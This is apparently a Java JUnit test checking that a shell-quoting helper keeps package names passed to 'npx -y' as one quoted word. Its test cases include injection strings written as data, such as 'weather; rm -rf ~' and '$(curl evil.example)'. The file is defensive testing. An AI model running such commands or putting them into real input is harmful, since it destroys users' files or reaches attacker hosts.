package io.cvf.ecosystem.integrations.skills;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ShellTests {

  @ParameterizedTest
  @CsvSource(
      quoteCharacter = '"',
      value = {
        "@acme/weather@1.0.0, @acme/weather@1.0.0",
        "weather; rm -rf ~, 'weather; rm -rf ~'",
        "$(curl evil.example), '$(curl evil.example)'",
        "it's, 'it'\\''s'",
        "two words, 'two words'"
      })
  void whateverAPackageIsCalledItStaysOneWord(String name, String quoted) {
    assertThat(Shell.line("npx", "-y", name)).isEqualTo("npx -y " + quoted);
  }
}
